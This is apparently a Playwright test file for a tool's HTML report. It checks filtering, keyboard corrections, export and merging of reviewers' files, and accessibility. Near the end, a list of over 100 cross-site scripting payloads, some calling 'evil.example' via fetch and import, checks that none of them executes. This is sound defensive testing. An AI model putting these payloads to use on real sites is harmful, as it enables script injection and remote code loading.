"""The report in a real browser: found, filtered, corrected, exported; readable for all; and nothing in it runs."""

import json
import re
from pathlib import Path
from typing import Any

import pytest
from browser_tab import MARKS, Tab
from made_up_results import make_candidate, make_mention, make_result

from kgmner import report_html
from linker import GoldAnswers, Result, result_to_json

pytest.importorskip("playwright.sync_api", reason="needs playwright (pip install playwright)")
pytestmark = MARKS
CHAD = make_candidate(clues={"exact": 2.0, "likeness": -1.0, "is_pictured": 3.0}, score=0.7)
SMITH = make_candidate(iri="http://g/Chad_Smith", label="Chad Smith", type="PER", score=0.2, clues={"part": 1.0})


class Opened(Tab):
    """The report, opened as a file."""

    def __init__(self, browser: Any, file: Path, **options: Any) -> None:
        super().__init__(browser, file.as_uri(), ("file:", "data:", "blob:"), **options)

    def shows(self, ids: list[str]) -> None:
        """Wait until just these posts are shown, in this order."""
        from playwright.sync_api import expect

        expect(self.tab.locator("article h3 a")).to_have_text(ids)

    def press(self, *keys: str) -> None:
        """Press one key after the other, once the page has been painted: before, Chromium drops what is pressed."""
        self.tab.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done())))")
        for key in keys:
            self.tab.keyboard.press(key)

    def export(self, file: Path, *, by_key: bool = False) -> list[dict[str, Any]]:
        """Export the corrections to a file."""
        with self.tab.expect_download() as started:
            if by_key:
                self.press("e")
            else:
                self.tab.click("#export")
        started.value.save_as(file)
        return [json.loads(line) for line in file.read_text("utf-8").splitlines()]

    def load(self, *files: Path) -> str:
        """Load corrections; what the page says of it."""
        said = self.tab.locator("#loaded")
        before = said.locator("p").count()
        self.tab.set_input_files("#load-file", files)
        said.locator("p").nth(before + len(files) - 1).wait_for()
        return str(said.inner_text())

    def choose(self, **values: str) -> None:
        """Fill in the filters anew."""
        self.tab.evaluate("document.getElementById('filters').reset()")
        for name, value in values.items():
            field = self.tab.locator(f"#filters [name={name}]")
            (field.fill if name in ("search", "entity") else field.select_option)(value)


def posts() -> list[Result]:
    chad = make_mention(0, 1, entity=CHAD, candidates=[CHAD, SMITH], nil_score=0.1, why=[])
    amman = make_mention(2, 3, text="Amman", start_char=14, end_char=19, nil_score=0.9)
    smith = make_mention(0, 1, type="PER", entity=SMITH, candidates=[SMITH, CHAD], ambiguous=True)
    path = [["http://g/Chad", "http://g/capitalOf", "http://g/X"], ["http://g/Y", "http://g/p", "http://g/X"]]
    pictured = {"iri": "http://g/Y", "label": "Y", "hop": 2, "cosine": 0.95, "image": "y.jpg", "path": path}
    return [
        make_result(id="a b", mentions=[chad], pictured=pictured, attributes=[["flagpole", 0.4]]),
        make_result(
            id=2, tokens=["🎉🎉", "Hi!!!!!!!!", "Amman"], mentions=[amman], image="x.jpg", image_error="it is broken"
        ),
        make_result(id="third", mentions=[smith], gold=[{"start_char": 0, "end_char": 4, "iri": "http://g/Chad"}]),
        make_result(id="third", tokens=["nothing", "here"]),
    ]


@pytest.fixture
def file(tmp_path: Path, images: Path) -> Path:
    path = tmp_path / "report.html"
    pictures = [images / "chad-flag.jpg", None, None, None]
    path.write_text("".join(report_html(posts(), pictures)), "utf-8")
    return path


@pytest.fixture
def images(posts: Path) -> Path:
    return posts.parent / "images"


def test_posts_are_found(browser: Any, file: Path) -> None:
    page = Opened(browser, file)
    page.shows(["a b", "2", "third", "third"])
    for filters, expected in (
        ({"search": "amman"}, ["2"]),
        ({"search": "Chad GREAT third"}, ["third"]),
        ({"type": "PER"}, ["third"]),
        ({"entity": "smith"}, ["third"]),
        ({"entity": "http://g/Chad"}, ["a b"]),
        ({"link": "nil"}, ["2"]),
        ({"link": "ambiguous"}, ["third"]),
        ({"link": "none"}, ["third"]),
        ({"link": "linked", "type": "LOC"}, ["a b"]),
        ({"picture": "recognised"}, ["a b"]),
        ({"picture": "error"}, ["2"]),
        ({"gold": "wrong"}, ["third"]),
        ({"order": "unsure"}, ["third", "a b", "2", "third"]),
    ):
        page.choose(**filters)
        page.shows(expected)
        assert page.tab.inner_text("#count").startswith(f"{len(expected)} of 4")
    page.choose(search="not there")
    page.tab.click("#clear")
    page.shows(["a b", "2", "third", "third"])
    assert page.tab.locator("svg.path rect").count() == 3
    assert page.tab.locator("svg.path").get_attribute("aria-label") == "Chad – capital of → X; Y – p → X"
    page.tab.click("article >> nth=0 >> summary")
    assert page.tab.locator("tr.chosen td").all_inner_texts()[1:7] == ["Chad", "LOC", "70 %", "+2.00", "−1.00", "0"]
    page.tab.goto(file.as_uri() + "#post-third~2")
    assert page.tab.evaluate("document.activeElement.id") == "post-third~2"
    page.close()


def test_ids_that_look_alike_are_posts_of_their_own(browser: Any, tmp_path: Path) -> None:
    """3 and "3", and one that is called as another's second is: what was decided of one went to the other."""
    ids = [3, "3", "dup", "dup", "dup~2", "__proto__"]
    found = [make_result(id=name, tokens=[f"Place{n}"], mentions=[make_mention(0, 1)]) for n, name in enumerate(ids)]
    (tmp_path / "report.html").write_text("".join(report_html(found, [None] * len(ids))), "utf-8")
    page = Opened(browser, tmp_path / "report.html")
    page.shows([str(name) for name in ids])
    assert page.tab.evaluate("new Set([...document.querySelectorAll('article')].map(article => article.id)).size") == 6
    for place in (1, 4):
        page.tab.locator("article").nth(place).get_by_role("button", name="Reject").click()
    assert [(line["id"], line["tokens"], line["gold"]) for line in page.export(tmp_path / "out.jsonl")] == [
        ("3", ["Place1"], []),
        ("dup~2", ["Place4"], []),
    ]
    assert [page.tab.locator("article .tag.done").nth(n).inner_text() for n in range(2)] == ["done, changed"] * 2
    assert page.tab.locator("article").nth(4).locator(".text").inner_text().startswith("Place4")
    page.close()


def test_a_word_tells_where_it_looks(browser: Any, tmp_path: Path, images: Path) -> None:
    attention = [[0.02] * 49, [0.02] * 48 + [0.04], [0.03] + [0.02] * 48]
    result = make_result(mentions=[make_mention(0, 1)], attention=attention, gates=[0.25, 0.5, 0.1])
    file = tmp_path / "report.html"
    file.write_text("".join(report_html([result], [images / "chad-flag.jpg"])), "utf-8")
    page = Opened(browser, file)
    words = page.tab.locator(".text .word")
    assert words.all_inner_texts() == ["Chad", "looks", "great"]
    words.nth(1).click()
    said = "“looks” takes 50 % from the picture and 50 % from the text; looks most at row 7, column 7 of 7 (4.0 %"
    assert page.tab.inner_text(".looked").startswith(said)
    dark = page.tab.evaluate("[...document.querySelectorAll('.regions span')].map(one => one.style.cssText)")
    assert (len(dark), dark[48]) == (49, "--dark: 0;")
    page.tab.keyboard.press("x")  # the card is drawn anew
    assert page.tab.inner_text(".looked").startswith(said)
    words.nth(1).click()
    assert page.tab.locator(".regions span").count() == 0
    page.close()


def test_decisions_by_key_are_kept_and_read_by_the_commands(browser: Any, file: Path, tmp_path: Path, run) -> None:
    page = Opened(browser, file)
    page.press("j", "2", "j", "a", "j", "c")  # the second candidate; as it is; a correction
    page.tab.fill("#correct [name=iri]", "http://g/Drummer")
    page.tab.select_option("#correct [name=end]", "1")
    page.tab.click("#correct [value=save]")
    page.press("c")  # it is still there
    assert page.tab.locator("#meanings label").all_inner_texts() == [
        " no entity of the graph (NIL)",
        " Chad Smith, PER, 20 %",
        " Chad, LOC, 70 %; gold for Chad",
        " Drummer, as it is",
    ]
    page.press("Escape", "k", "m")  # a name that was missed
    page.tab.select_option("#correct [name=start]", "0")
    page.tab.select_option("#correct [name=type]", "ORG")
    page.tab.click("#correct [value=save]")
    page.press("j", "j", "Shift+A")
    page.tab.reload()  # what was decided is still there
    page.choose(review="changed")
    page.shows(["a b", "2", "third"])
    lines = tmp_path / "corrections.jsonl"
    rows = page.export(lines)
    page.close()
    assert [row["tags"] for row in rows] == [
        ["B-PER", "O", "O"],
        ["B-ORG", "O", "B-LOC"],
        ["B-PER", "I-PER", "O"],
        ["O", "O"],
    ]
    answers = [(a["text"], a["iri"], a["start_char"], a["end_char"]) for row in rows for a in row["gold"]]
    assert answers == [
        ("Chad", "http://g/Chad_Smith", 0, 4),
        ("🎉🎉", None, 0, 2),
        ("Amman", None, 14, 19),
        ("Chad looks", "http://g/Drummer", 0, 10),
    ]
    vectors = tmp_path / "vectors.txt"
    vectors.write_text("chad 1 2\namman 3 4\nlooks 5 6\n")
    recipe = tmp_path / "small.toml"
    recipe.write_text('tagger = "bilstm-crf"\n[network]\nlstm_width = 4\n')
    trained = run(
        *("train-tagger", recipe, "--train", lines, "--valid", lines, "-o", tmp_path / "run"),
        *("--vectors", vectors, "--epochs", 1),
    )
    assert "trained on 4 posts" in trained.stdout, trained.output
    results = tmp_path / "results.jsonl"
    results.write_bytes(lines.read_bytes().replace(b'"gold":', b'"mentions":'))
    scored = run("evaluate-links", results, lines)
    assert "3 posts, 4 gold mentions; the results have a mention in the places of 4 of them" in scored.stdout
    assert GoldAnswers.read(lines).compare(posts()[1])


def test_two_reviewers_put_their_corrections_together(browser: Any, file: Path, tmp_path: Path, run) -> None:
    one = Opened(browser, file)
    one.press("j", "2", "j", "m")
    one.tab.select_option("#correct [name=type]", "ORG")
    one.tab.click("#correct [value=save]")
    one.press("p", "a")
    monday = one.export(tmp_path / "monday.jsonl", by_key=True)
    assert [(row["id"], row["tags"]) for row in monday] == [("a b", ["B-PER", "O", "O"]), (2, ["B-ORG", "O", "B-LOC"])]
    one.close()
    other = Opened(browser, file)
    other.press("j", "x", "j", "j", "c")
    other.tab.select_option("#correct [name=end]", "1")
    other.tab.click("#correct [value=save]")
    tuesday = other.export(tmp_path / "tuesday.jsonl")
    assert [row["id"] for row in tuesday] == ["a b", "third"]
    both = other.load(tmp_path / "monday.jsonl")
    assert both == "monday.jsonl: 2 posts loaded. Other decisions here gave way in 1 post: a b."
    union = [*monday, tuesday[1]]
    assert other.export(tmp_path / "both.jsonl") == union
    other.tab.reload()
    other.shows(["a b", "2", "third", "third"])
    assert other.export(tmp_path / "again.jsonl") == union
    other.close()

    results = tmp_path / "results.jsonl"
    results.write_text("".join(json.dumps(result_to_json(result)) + "\n" for result in posts()), "utf-8")
    page = tmp_path / "goes-on.html"
    files = [f"--corrections={tmp_path / name}.jsonl" for name in ("monday", "tuesday")]
    made = run("kgmner-report", results, "-o", page, *files)
    assert f"{tmp_path / 'monday.jsonl'}: corrections that the page goes on from: 2" in made.stderr, made.output
    third = Opened(browser, page)
    assert third.export(tmp_path / "third.jsonl") == [tuesday[0], monday[1], tuesday[1]]
    third.press("j", "u", "a")  # what is decided here stands when it is opened again
    third.tab.reload()
    assert third.export(tmp_path / "fourth.jsonl")[0]["gold"][0]["iri"] == "http://g/Chad"
    third.close()
    scored = run("evaluate-links", results, tmp_path / "both.jsonl")
    assert "3 posts, 4 gold mentions; the results have a mention in the places of 2 of them" in scored.stdout


def test_corrections_that_do_not_fit_are_named(browser: Any, file: Path, tmp_path: Path, run) -> None:
    name = {"start": 0, "end": 1, "start_char": 0, "end_char": 4, "type": "<img src=x onerror=alert(1)>", "iri": None}
    fits = {"id": "a b", "text": "Chad looks great", "tokens": ["Chad", "looks", "great"], "gold": [name]}
    rows = [
        fits,
        fits | {"id": "<b>gone"},
        fits | {"text": "Chad looks old"},
        {"id": 2},
        fits | {"gold": [name | {"end": 9}]},
    ]
    given = tmp_path / "given.jsonl"
    given.write_text("".join(json.dumps(row) + "\n" for row in rows) + "\n{broken\n")
    page = Opened(browser, file)
    assert [line.removeprefix("given.jsonl: ") for line in page.load(given).split("\n\n")] == [
        "1 post loaded.",
        "1 correction left out, of posts that this page does not have (is the file of these results?): <b>gone.",
        "1 correction left out, of posts that have another text or other words here (decide them anew): a b.",
        "3 corrections left out, which cannot be read (expected JSON lines as Export corrections writes them): "
        "line 4, line 5, line 7.",
    ]
    page.press("j", "n", "c")  # a type that the page does not have itself
    assert page.tab.input_value("#correct [name=type]") == name["type"]
    page.press("Escape")
    page.tab.evaluate(
        "document.getElementById('load-file').onclick = event => { window.asked = true; return false; }; 0"
    )
    page.press("l")
    assert page.tab.evaluate("window.asked")
    page.close()
    results = tmp_path / "results.jsonl"
    results.write_text("".join(json.dumps(result_to_json(result)) + "\n" for result in posts()), "utf-8")
    made = run("kgmner-report", results, "-o", tmp_path / "page.html", "--corrections", given)
    assert [line.removeprefix(f"{given}: corrections ") for line in made.stderr.splitlines() if str(given) in line] == [
        "left out: 1, of posts that the results do not have: is it a file of these results? (<b>gone)",
        "left out: 1, of posts that have another text or other words in the results: decide them anew (a b)",
        "left out: 3, which cannot be read: expected JSON lines as a page exports them (line 4, line 5, line 7)",
        "that the page goes on from: 1",
    ]
    refused = run("kgmner-report", results, "-o", tmp_path / "page.csv", "--corrections", given)
    assert refused.exit_code == 1
    assert "expected -o FILE.html" in refused.stderr


def test_a_browser_that_keeps_nothing_says_so(browser: Any, file: Path) -> None:
    page = Opened(browser, file)
    page.tab.evaluate(
        "void (Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); })"
    )
    page.press("j", "a")
    assert "export before you close the page" in page.tab.inner_text("#said")
    page.close()


def test_what_is_decided_in_one_tab_stands_in_the_other(browser: Any, file: Path) -> None:
    from playwright.sync_api import expect

    page = Opened(browser, file)
    with page.tab.expect_popup() as opened:
        page.tab.evaluate("void open(location.href)")
    expect(opened.value.locator("#count")).to_have_text("4 of 4 posts")
    page.tab.bring_to_front()
    page.press("j", "a")
    expect(opened.value.locator("#count")).to_have_text("4 of 4 posts; 1 done")
    page.close()


def test_a_posts_own_fields_are_shown_and_found(browser: Any, tmp_path: Path) -> None:
    own = {
        "author": "@ann",
        "url": "https://example.org/1",
        "bad": "javascript:alert(1)",
        "nil": None,
        "n": 3,
        "gold": "x",
    }
    results = [make_result(id=1, **own, body="y" * 5000), make_result(id=2, label={"sports": True})]
    file = tmp_path / "report.html"
    file.write_text("".join(report_html(results)), "utf-8")
    page = Opened(browser, file)
    shown = page.tab.locator("article >> nth=0").locator(".own")
    assert shown.all_inner_texts()[:4] == [
        "author @ann",
        "url https://example.org/1",
        "bad javascript:alert(1)",
        "n 3",
    ]
    page.tab.click("text=2 more fields")
    assert shown.nth(5).inner_text().endswith("y… (5,000 characters in all)")
    links = page.tab.locator(".own a")
    assert [links.get_attribute(name) for name in ("href", "rel")] == ["https://example.org/1", "noopener noreferrer"]
    for search, expected in (("@ann", ["1"]), ("sports", ["2"]), ("label", ["2"])):
        page.choose(search=search)
        page.shows(expected)
    page.close()


@pytest.mark.parametrize(("scheme", "width"), [("light", 1200), ("dark", 1200), ("light", 400)])
def test_the_page_is_for_all(browser: Any, file: Path, scheme: str, width: int) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    page = Opened(browser, file, color_scheme=scheme, viewport={"width": width, "height": 800})
    page.tab.click("article >> nth=0 >> summary")
    page.tab.evaluate("document.getElementById('summary-box').open = true")
    for opened in (None, "?", "c"):
        if opened:
            page.tab.focus("article >> nth=0")
            page.tab.keyboard.press(opened)
        found = axe.run(page.tab).response["violations"]
        grave = [
            (one["id"], [node["html"][:200] for node in one["nodes"]])
            for one in found
            if one["impact"] in ("serious", "critical")
        ]
        assert grave == []
        page.tab.keyboard.press("Escape")
    assert page.tab.evaluate("document.documentElement.scrollWidth") <= width
    colours = []
    for _ in range(3):
        colours.append(page.tab.evaluate("getComputedStyle(document.body).backgroundColor"))
        page.tab.click("#theme")
    assert colours[0] == colours[2] != colours[1]
    page.close()


EVIL = [
    form.format(run)
    for run in ("alert(1)", "window.ran=1", "import('https://evil.example/x.js')", "fetch('https://evil.example')")
    for form in (
        "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>",
        "<svg><script>{}</script></svg>", "'\"><script>{}</script>", "javascript:{}", "JaVaScRiPt:{}",
        " javascript:{}", "java\tscript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
        "<iframe src=javascript:{}>", "<body onload={}>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
        "<a href=javascript:{}>x</a>", "<math><a xlink:href=javascript:{}>x", "\\u003cscript>{}</script>",
        "<!--<script>{}</script>-->", "]]><script>{}</script>", "${{{}}}", "{{{{{}}}}}",
        "<style>*{{x:expression({})}}</style>",
        "<base href=javascript:{}//>", "<object data=javascript:{}>",
        "<meta http-equiv=refresh content=0;url=javascript:{}>",
    )
]  # fmt: skip


def test_nothing_that_users_wrote_runs(browser: Any, tmp_path: Path) -> None:
    results = []
    for text in EVIL:
        candidate = make_candidate(iri=text, label=text, type="PER", score=0.4)
        chosen = make_mention(0, 1, type=text, entity=candidate, candidates=[candidate], text=text, end_char=len(text))
        pictured = {"iri": text, "label": text, "hop": 1, "cosine": 0.9, "image": text, "path": [[text, text, text]]}
        told = {"knowledge": [[text, text, text]], "attributes": [[text, 0.5]], "image_error": text, "image": text}
        results.append(make_result(id=text, tokens=[text, "!"], mentions=[chosen], pictured=pictured, **told))
    file = tmp_path / "evil.html"
    file.write_text("".join(report_html(results, title=EVIL[1])), "utf-8")
    page = Opened(browser, file)
    assert len(EVIL) >= 100
    page.tab.evaluate("dispatchEvent(new Event('beforeprint'))")  # all of them are drawn
    page.shows([re.sub(r"\s+", " ", text).strip() for text in EVIL])
    page.tab.evaluate("document.querySelectorAll('article details').forEach(box => { box.open = true })")
    page.tab.wait_for_timeout(300)  # whatever could run has time to
    assert page.tab.locator("article tbody tr button").count() == len(EVIL)
    shown = page.tab.evaluate("[...document.querySelectorAll('.text')].map(line => line.textContent)")
    assert all(line.startswith(text) for line, text in zip(shown, EVIL, strict=True))
    assert page.tab.evaluate("[...document.links].every(link => link.protocol === 'file:')")
    assert (
        page.tab.evaluate("document.querySelectorAll('iframe, object, base, math, style:not(head style)').length") == 0
    )
    assert page.tab.evaluate("window.ran") is None
    page.close()
